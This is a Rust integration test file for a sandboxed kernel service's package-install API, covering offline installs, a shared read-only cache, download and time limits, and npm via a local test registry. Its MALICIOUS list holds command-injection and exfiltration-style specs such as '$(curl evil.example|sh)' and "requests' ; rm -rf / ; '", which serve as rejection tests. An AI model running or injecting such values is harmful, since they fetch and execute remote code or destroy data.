//! `POST /v1/sessions/{id}/packages` against the real engine, the real images and the real package index
//! (through whatever proxy the host uses): installs without a network in the session, the shared cache,
//! the fetcher's life, and the refusals.

use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::helpers::{TestApp, assert_error_shape, result_text, spawn_app};

async fn install(app: &TestApp, id: &str, packages: &[&str]) -> (u16, Value) {
    app.post(&format!("/v1/sessions/{id}/packages"), json!({ "packages": packages })).await
}

/// Installs and insists that it worked.
async fn install_ok(app: &TestApp, id: &str, packages: &[&str]) -> Value {
    let (status, report) = install(app, id, packages).await;
    assert_eq!(status, 200, "install {packages:?}: {report}");
    assert_eq!(report["ok"], true, "install {packages:?}: {}", report["log"].as_str().unwrap_or(""));
    report
}

fn fetchers_started(app: &TestApp) -> u64 {
    app.manager.packages().fetchers_started()
}

/// Containers of this instance that are fetchers (there should be none once installs have answered).
async fn fetcher_containers(app: &TestApp) -> usize {
    app.containers().await.iter().filter(|c| c.labels.contains_key("kernelbox.fetcher")).count()
}

fn stdout(v: &Value) -> String {
    v["stdout"].as_str().unwrap_or_default().to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn python_packages_install_without_a_network_and_a_second_session_downloads_nothing() {
    let app = spawn_app().await;
    let a = app.start("python").await;
    let b = app.start("python").await;

    // Session A: a pure-Python package and one with a compiled wheel. The cache is empty: one fetch.
    let t = Instant::now();
    let report = install_ok(&app, &a, &["six", "orjson"]).await;
    println!("FIGURE install six+orjson cold: {:.1} s", t.elapsed().as_secs_f64());
    assert_eq!(report["cached"], false);
    let downloaded: Vec<&str> = report["downloaded"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
    assert!(downloaded.iter().any(|w| w.starts_with("six-")), "{downloaded:?}");
    assert!(downloaded.iter().any(|w| w.starts_with("orjson-") && !w.ends_with("-none-any.whl")), "{downloaded:?}");
    for p in report["packages"].as_array().unwrap() {
        assert!(p["version"].as_str().is_some_and(|v| !v.is_empty()), "{p}");
    }
    assert_eq!(fetchers_started(&app), 1);
    assert_eq!(fetcher_containers(&app).await, 0, "the fetcher is removed when its install answers");
    // Imported in the running kernel, no restart.
    let out = app.exec(&a, "import six, orjson\nprint(six.__version__, orjson.dumps({'a': 1}).decode())").await;
    assert!(stdout(&out).contains("{\"a\":1}"), "{out}");

    // Session B: the same packages come from the cache; no fetcher container at all.
    let before = fetchers_started(&app);
    let t = Instant::now();
    let report = install_ok(&app, &b, &["six", "orjson"]).await;
    println!("FIGURE install six+orjson from the cache: {:.1} s", t.elapsed().as_secs_f64());
    assert_eq!(report["cached"], true, "{report}");
    assert_eq!(report["downloaded"], json!([]));
    assert_eq!(fetchers_started(&app), before, "a cached install starts no fetcher");
    let out = app.exec(&b, "import six, orjson\nprint(orjson.dumps([six.PY3]).decode())").await;
    assert_eq!(stdout(&out).trim(), "[true]", "{out}");

    // Still no network in the session, and the cache is read-only to it.
    let probe = r#"
import errno, os, socket
try:
    socket.create_connection(("1.1.1.1", 443), timeout=3)
    print("net:open")
except OSError as e:
    print("net:closed", e.errno)
try:
    socket.getaddrinfo("example.com", 443)
    print("dns:open")
except OSError:
    print("dns:closed")
try:
    open("/mnt/wheels/planted.whl", "w")
    print("cache:writable")
except OSError as e:
    print("cache:" + errno.errorcode[e.errno])
try:
    os.unlink(os.path.join("/mnt/wheels", sorted(os.listdir("/mnt/wheels"))[0]))
    print("unlink:done")
except OSError as e:
    print("unlink:" + errno.errorcode[e.errno])
print(sorted(os.listdir("/sys/class/net")))
"#;
    let out = stdout(&app.exec(&a, probe).await);
    assert!(out.contains("net:closed") && out.contains("dns:closed"), "{out}");
    assert!(out.contains("cache:EROFS") && out.contains("unlink:EROFS"), "{out}");
    assert!(out.contains("['lo']"), "only loopback: {out}");

    // A kernel restart keeps the packages.
    let (status, v) = app.post(&format!("/v1/sessions/{a}/restart"), json!({})).await;
    assert_eq!(status, 200, "{v}");
    let out = app.exec(&a, "import six, orjson\nprint(orjson.dumps(1).decode())").await;
    assert_eq!(stdout(&out).trim(), "1", "{out}");
}

/// A kernel restart keeps the container (and its packages); a dead session gets a new container on
/// restart, and its packages are installed again, from the cache (no fetcher).
#[tokio::test(flavor = "multi_thread")]
async fn packages_come_back_when_a_dead_session_gets_a_new_container() {
    let app = spawn_app().await;
    // Restarted by hand (automatic restarts reinstall too: `auto_restart.rs`).
    let id = app.start_with(json!({"language": "python", "auto_restart": false})).await;
    install_ok(&app, &id, &["six"]).await;
    let first = app.containers().await;
    let _ = app.exec_with(&id, json!({"code": "import os\nos._exit(3)"})).await;
    let dead = crate::helpers::eventually(Duration::from_secs(20), || async {
        app.get(&format!("/v1/sessions/{id}")).await.1["status"] == "dead"
    })
    .await;
    assert!(dead, "the container died with its kernel");
    let fetchers = fetchers_started(&app);
    let (status, v) = app.post(&format!("/v1/sessions/{id}/restart"), json!({})).await;
    assert_eq!(status, 200, "{v}");
    assert_ne!(
        app.containers().await.iter().map(|c| &c.id).collect::<Vec<_>>(),
        first.iter().map(|c| &c.id).collect::<Vec<_>>()
    );
    let out = app.exec(&id, "import six\nprint(six.PY3)").await;
    assert_eq!(stdout(&out).trim(), "True", "{out}");
    assert_eq!(fetchers_started(&app), fetchers, "installed again from the cache");
}

/// The per-install download limit: the fetcher's disk is that big, and a larger download fails cleanly.
#[tokio::test(flavor = "multi_thread")]
async fn a_download_over_the_limit_fails_and_leaves_nothing() {
    let app = crate::helpers::spawn_app_with(crate::helpers::AppOptions {
        packages: crate::helpers::packages(&["--package-max-download-mb", "16"]),
        ..Default::default()
    })
    .await;
    let id = app.start("python").await;
    let (status, report) = install(&app, &id, &["pandas"]).await;
    assert_eq!(status, 200, "{report}");
    assert_eq!(report["ok"], false, "{report}");
    let error = report["packages"][0]["error"].as_str().unwrap();
    println!("over the download limit: {error}");
    assert!(error.contains("space") || error.contains("limit"), "{report}");
    assert_eq!(fetcher_containers(&app).await, 0);
    let listed = std::fs::read_dir(app.state_dir.join("wheels")).unwrap().count();
    assert_eq!(listed, 0, "nothing half-written in the cache");
    let out = app.exec(&id, "import importlib.util\nprint(importlib.util.find_spec('pandas') is None)").await;
    assert_eq!(stdout(&out).trim(), "True", "{out}");
}

#[tokio::test(flavor = "multi_thread")]
async fn concurrent_installs_of_the_same_packages_share_one_download() {
    let app = spawn_app().await;
    let a = app.start("python").await;
    let b = app.start("python").await;
    // A package none of the images has (idna came with requests).
    let (ra, rb) = tokio::join!(install(&app, &a, &["inflection"]), install(&app, &b, &["inflection"]));
    for (status, report) in [&ra, &rb] {
        assert_eq!(*status, 200, "{report}");
        assert_eq!(report["ok"], true, "{report}");
    }
    assert_eq!(fetchers_started(&app), 1, "one download for both: {ra:?} {rb:?}");
    for id in [&a, &b] {
        let out = app.exec(id, "import inflection\nprint(inflection.underscore('DeviceType'))").await;
        assert_eq!(stdout(&out).trim(), "device_type", "{out}");
    }
}

/// Each of these is refused with 422 before anything runs: no container is started for any of them.
const MALICIOUS: &[&str] = &[
    "-r/etc/passwd",
    "--index-url=http://evil.example/simple",
    "--extra-index-url=http://evil.example/simple",
    "-e.",
    "--pre",
    "requests @ https://evil.example/requests.whl",
    "https://evil.example/x.tar.gz",
    "git+https://evil.example/x.git",
    "./setup.py",
    "/etc/passwd",
    "../x",
    "file:///etc/passwd",
    "requests; os_name == 'posix'",
    "requests\n--index-url=http://evil.example",
    "requests\t",
    "requests\u{a0}",
    "$(curl evil.example|sh)",
    "`id`",
    "requests==$VERSION",
    "requests' ; rm -rf / ; '",
    "requests===1.0",
    "requests[sec urity]",
    "re quests",
    "",
];

#[tokio::test(flavor = "multi_thread")]
async fn malicious_specs_are_refused_before_any_container_starts() {
    let app = spawn_app().await;
    let id = app.start("python").await;
    let containers = app.containers().await.len();
    let long = "a".repeat(10_000);
    for spec in MALICIOUS.iter().copied().chain([long.as_str()]) {
        let (status, v) = install(&app, &id, &[spec]).await;
        assert_eq!(status, 422, "{spec:?}: {v}");
        assert_error_shape(&v, "invalid_package_spec");
        // One bad spec among good ones refuses the whole request.
        let (status, _) = install(&app, &id, &["six", spec]).await;
        assert_eq!(status, 422, "{spec:?} with another");
    }
    let (status, v) = install(&app, &id, &[]).await;
    assert_eq!(status, 422, "{v}");
    let too_many: Vec<String> = (0..40).map(|i| format!("pkg{i}")).collect();
    let (status, _) = app.post(&format!("/v1/sessions/{id}/packages"), json!({ "packages": too_many })).await;
    assert_eq!(status, 422);
    let (status, v) = app.post(&format!("/v1/sessions/{id}/packages"), json!({"packages": "six"})).await;
    assert!((400..500).contains(&status), "{v}");
    let (status, v) = app.post("/v1/sessions/0123456789abcdef01234567/packages", json!({"packages": ["six"]})).await;
    assert_eq!(status, 404, "{v}");
    assert_eq!(app.containers().await.len(), containers, "no container started");
    assert_eq!(fetchers_started(&app), 0, "no fetcher started");

    // Languages with no installer say so.
    let bash = app.start("bash").await;
    let (status, v) = install(&app, &bash, &["six"]).await;
    assert_eq!(status, 400, "{v}");
    assert_error_shape(&v, "not_supported");
    assert!(v["error"]["message"].as_str().unwrap().contains("bash"), "{v}");
    // npm specs are checked as npm specs.
    let js = app.start("javascript").await;
    for spec in ["--registry=http://evil.example", "npm:evil@1", "file:../x", "Chalk", "chalk@1 || 2"] {
        let (status, v) = install(&app, &js, &[spec]).await;
        assert_eq!(status, 422, "{spec:?}: {v}");
    }
    assert_eq!(fetchers_started(&app), 0, "no fetcher started");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_package_with_no_wheel_is_a_clear_error_and_the_session_keeps_what_it_had() {
    let app = spawn_app().await;
    let id = app.start("python").await;
    install_ok(&app, &id, &["six"]).await;
    let (status, report) = install(&app, &id, &["six==1.16.0", "kernelbox-no-such-package-x7q"]).await;
    assert_eq!(status, 200, "{report}");
    assert_eq!(report["ok"], false);
    let missing = &report["packages"][1];
    let error = missing["error"].as_str().unwrap();
    assert!(error.contains("kernelbox-no-such-package-x7q") && error.contains("wheel"), "{report}");
    assert!(report["packages"][0]["error"].as_str().unwrap().contains("all or nothing"), "{report}");
    assert_eq!(fetcher_containers(&app).await, 0);
    // six is still the version installed first.
    let out = app.exec(&id, "import six\nprint(six.__version__)").await;
    assert_ne!(stdout(&out).trim(), "1.16.0", "{out}");
    assert!(!stdout(&out).trim().is_empty(), "{out}");
}

/// The npm registry is not reachable from the development host, so this shows the failure path only:
/// the fetcher runs `deno cache npm:...`, fails fast, and the report says why; nothing is left behind.
#[tokio::test(flavor = "multi_thread")]
async fn an_unreachable_npm_registry_is_a_clear_error_not_a_hang() {
    let app = spawn_app().await;
    let id = app.start("javascript").await;
    let t = Instant::now();
    let (status, report) = install(&app, &id, &["left-pad@1.3.0"]).await;
    println!(
        "FIGURE npm install with the registry unreachable answered in {:.1} s: {}",
        t.elapsed().as_secs_f64(),
        report["packages"][0]["error"]
    );
    assert_eq!(status, 200, "{report}");
    assert_eq!(report["ok"], false);
    let error = report["packages"][0]["error"].as_str().unwrap();
    assert!(error.contains("left-pad") || report["log"].as_str().unwrap().contains("left-pad"), "{report}");
    assert!(t.elapsed() < Duration::from_secs(120));
    assert_eq!(fetchers_started(&app), 1);
    assert_eq!(fetcher_containers(&app).await, 0);
    let out = app.exec(&id, "console.log(1 + 1)").await;
    assert_eq!(result_text(&out).unwrap_or_else(|| stdout(&out)).trim(), "2", "{out}");
}

/// Install times for the note: `requests` and `pandas`, cold (empty cache: a fetcher downloads) and from
/// the cache (another session). Slow and network-bound: run it by name.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "measures install times over the network; run with --ignored"]
async fn figures_install_times_cold_and_cached() {
    let app = spawn_app().await;
    for (packages, memory) in [(&["requests"][..], 512), (&["pandas"][..], 2048)] {
        let a = app.start_with(json!({"language": "python", "memory_mb": memory})).await;
        let b = app.start_with(json!({"language": "python", "memory_mb": memory})).await;
        let t = Instant::now();
        let cold = install_ok(&app, &a, packages).await;
        let cold_s = t.elapsed().as_secs_f64();
        let t = Instant::now();
        let warm = install_ok(&app, &b, packages).await;
        let warm_s = t.elapsed().as_secs_f64();
        assert_eq!((cold["cached"].clone(), warm["cached"].clone()), (json!(false), json!(true)));
        println!(
            "FIGURE install {packages:?} (python): cold {cold_s:.1} s ({} wheels downloaded), from the cache {warm_s:.1} s",
            cold["downloaded"].as_array().map_or(0, Vec::len)
        );
        let name = packages[0];
        let t = Instant::now();
        let out = app.exec(&b, &format!("import {name}\nprint({name}.__version__)")).await;
        println!("FIGURE first import of {name} after the install: {:.1} s", t.elapsed().as_secs_f64());
        assert!(!stdout(&out).trim().is_empty(), "{out}");
        app.delete(&format!("/v1/sessions/{a}")).await;
        app.delete(&format!("/v1/sessions/{b}")).await;
    }
}

/// A one-package npm registry (in memory) served by a python3 of one of our images.
const NPM_REGISTRY: &str = r#"
import base64, hashlib, http.server, io, json, tarfile
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as t:
    for name, data in [
        ("package/package.json", json.dumps({"name": "left-pad", "version": "1.3.0", "main": "index.js"}).encode()),
        ("package/index.js", b"module.exports = function (s, n, c) { s = String(s); c = c || ' '; while (s.length < n) s = c + s; return s; };\n"),
    ]:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
TGZ = buf.getvalue()
class Registry(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path.rstrip("/") == "/left-pad":
            tarball = "http://%s/left-pad/-/left-pad-1.3.0.tgz" % self.headers["Host"]
            dist = {"tarball": tarball, "shasum": hashlib.sha1(TGZ).hexdigest(),
                    "integrity": "sha512-" + base64.b64encode(hashlib.sha512(TGZ).digest()).decode()}
            body = json.dumps({"name": "left-pad", "dist-tags": {"latest": "1.3.0"},
                               "versions": {"1.3.0": {"name": "left-pad", "version": "1.3.0", "dist": dist}}}).encode()
        elif self.path == "/left-pad/-/left-pad-1.3.0.tgz":
            body = TGZ
        else:
            self.send_response(404); self.end_headers(); return
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
http.server.ThreadingHTTPServer(("0.0.0.0", 8000), Registry).serve_forever()
"#;

/// Removes a container by name when dropped.
struct ContainerGuard(String);

impl Drop for ContainerGuard {
    fn drop(&mut self) {
        let _ = std::process::Command::new("docker").args(["rm", "-f", &self.0]).output();
    }
}

/// npm end to end, through a registry of our own on the fetchers' network (the public one is not
/// reachable from the development host): fetched once, unpacked into the session's DENO_DIR, imported
/// with no network; a second session gets it from the service's npm cache.
#[tokio::test(flavor = "multi_thread")]
async fn npm_packages_from_a_registry_import_in_a_javascript_session() {
    crate::helpers::ensure_images().await;
    let name = format!("kernelbox-test-npm-registry-{}", std::process::id());
    let image = format!("{}javascript:latest", crate::helpers::image_prefix());
    let _guard = ContainerGuard(name.clone());
    let run = std::process::Command::new("docker")
        .args(["run", "-d", "--rm", "--name", &name, "--user", "1000:1000", &image, "python3", "-c", NPM_REGISTRY])
        .output()
        .unwrap();
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    let inspect = std::process::Command::new("docker")
        .args(["inspect", "-f", "{{.NetworkSettings.IPAddress}}", &name])
        .output()
        .unwrap();
    let ip = String::from_utf8_lossy(&inspect.stdout).trim().to_owned();
    assert!(!ip.is_empty(), "the registry has an address on the default bridge");
    let registry = format!("http://{ip}:8000/");
    let app = crate::helpers::spawn_app_with(crate::helpers::AppOptions {
        packages: crate::helpers::packages(&["--npm-registry", &registry]),
        ..Default::default()
    })
    .await;
    let a = app.start("javascript").await;
    let b = app.start("javascript").await;
    let t = Instant::now();
    let report = install_ok(&app, &a, &["left-pad@1.3.0"]).await;
    println!("FIGURE npm install left-pad from a local registry, cold: {:.1} s", t.elapsed().as_secs_f64());
    assert_eq!(report["cached"], false);
    assert_eq!(report["packages"][0]["version"], "1.3.0", "{report}");
    assert_eq!(fetcher_containers(&app).await, 0);
    let code = "import leftPad from \"npm:left-pad@1.3.0\";\nconsole.log(leftPad(\"x\", 4, \"-\"));";
    let out = app.exec(&a, code).await;
    assert_eq!(stdout(&out).trim(), "---x", "{out}");
    let fetchers = fetchers_started(&app);
    let report = install_ok(&app, &b, &["left-pad@1.3.0"]).await;
    assert_eq!(report["cached"], true, "{report}");
    assert_eq!(fetchers_started(&app), fetchers, "no fetcher for the second session");
    let out = app.exec(&b, code).await;
    assert_eq!(stdout(&out).trim(), "---x", "{out}");
}

/// A session taken from the warm pool was booted before anyone asked for it: it has the cache mount and
/// the packages directory all the same.
#[tokio::test(flavor = "multi_thread")]
async fn a_pooled_session_installs_packages_too() {
    let app = crate::helpers::spawn_app_with(crate::helpers::AppOptions {
        pool: crate::helpers::python_pool(1),
        ..Default::default()
    })
    .await;
    let pooled = crate::helpers::eventually(Duration::from_secs(90), || async {
        let languages = app.get("/v1/languages").await.1;
        languages.as_array().unwrap().iter().any(|l| l["name"] == "python" && l["pool"]["ready"] == 1)
    })
    .await;
    assert!(pooled, "the pool fills");
    let id = app.start("python").await;
    assert!(
        app.containers()
            .await
            .iter()
            .any(|c| c.labels.get("kernelbox.session") == Some(&id) && c.labels.contains_key("kernelbox.pool")),
        "the session is the pooled kernel"
    );
    install_ok(&app, &id, &["six"]).await;
    let out = app.exec(&id, "import six\nprint(six.PY3)").await;
    assert_eq!(stdout(&out).trim(), "True", "{out}");
}

/// An index that accepts connections and never answers: the install ends at the per-install time limit
/// (504), the fetcher is gone, and the session is as it was.
#[tokio::test(flavor = "multi_thread")]
async fn an_install_that_hangs_ends_at_its_time_limit() {
    crate::helpers::ensure_images().await;
    let name = format!("kernelbox-test-stalling-index-{}", std::process::id());
    let image = format!("{}python:latest", crate::helpers::image_prefix());
    let _guard = ContainerGuard(name.clone());
    let stall = "import socket\ns = socket.socket()\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
                 s.bind(('0.0.0.0', 8000))\ns.listen(64)\nheld = []\nwhile True:\n    held.append(s.accept())";
    let run = std::process::Command::new("docker")
        .args(["run", "-d", "--rm", "--name", &name, "--label", "kernelbox.test=stall", "--user", "1000:1000"])
        .args(["--entrypoint", "python3", &image, "-c", stall])
        .output()
        .unwrap();
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    let inspect = std::process::Command::new("docker")
        .args(["inspect", "-f", "{{.NetworkSettings.IPAddress}}", &name])
        .output()
        .unwrap();
    let ip = String::from_utf8_lossy(&inspect.stdout).trim().to_owned();
    assert!(!ip.is_empty(), "the stalling index has an address on the default bridge");
    // https: pip ignores a plain-http index on a host it is not told to trust; a TLS handshake that never
    // gets an answer hangs it for real.
    let index = format!("https://{ip}:8000/simple");
    let app = crate::helpers::spawn_app_with(crate::helpers::AppOptions {
        packages: crate::helpers::packages(&["--package-index-url", &index, "--package-timeout-s", "10"]),
        ..Default::default()
    })
    .await;
    let id = app.start("python").await;
    let started = Instant::now();
    let (status, report) = install(&app, &id, &["six"]).await;
    println!("FIGURE an install against a stalling index ended after {:.1} s", started.elapsed().as_secs_f64());
    assert_eq!(status, 504, "{report}");
    assert!(report["error"]["message"].is_string(), "{report}");
    assert!(
        crate::helpers::eventually(std::time::Duration::from_secs(30), || async {
            fetcher_containers(&app).await == 0
        })
        .await
    );
    assert_eq!(stdout(&app.exec(&id, "print('alive')").await).trim(), "alive");
}

/// What a session installed is recorded with it: a service that adopts the session after a restart still
/// installs it again when the session needs a new container.
#[tokio::test(flavor = "multi_thread")]
async fn an_adopted_session_gets_its_packages_again_in_a_new_container() {
    use crate::helpers::{AppOptions, SharedInstance, instance_containers, spawn_app_with};
    let shared = SharedInstance::new("installed");

    let mut first =
        spawn_app_with(AppOptions { keep_sessions: true, instance: shared.options(), ..Default::default() }).await;
    let id = first.start_with(serde_json::json!({"language": "python", "auto_restart": false})).await;
    install_ok(&first, &id, &["six"]).await;
    let record = shared.dir.path().join("installed").join(format!("{id}.json"));
    assert_eq!(std::fs::read_to_string(&record).unwrap(), r#"["six"]"#);
    first.cleanup = false;
    first.stop().await;

    let second = spawn_app_with(AppOptions { instance: shared.options(), ..Default::default() }).await;
    let container = second.containers().await.pop().expect("adopted").id;
    std::process::Command::new("docker").args(["kill", &container]).output().unwrap();
    let dead = crate::helpers::eventually(Duration::from_secs(30), || async {
        second.get(&format!("/v1/sessions/{id}")).await.1["status"] == "dead"
    });
    assert!(dead.await, "the session saw its container die");
    let (status, restarted) = second.post(&format!("/v1/sessions/{id}/restart"), serde_json::json!({})).await;
    assert_eq!(status, 200, "{restarted}");
    assert_ne!(second.containers().await.pop().unwrap().id, container, "a new container");
    let out = second.exec(&id, "import six\nprint(six.PY3)").await;
    assert_eq!(stdout(&out).trim(), "True", "installed again in the new container: {out}");

    second.stop().await;
    assert!(instance_containers(&shared.name).await.is_empty());
    assert!(!record.exists(), "the record goes with its session");
}
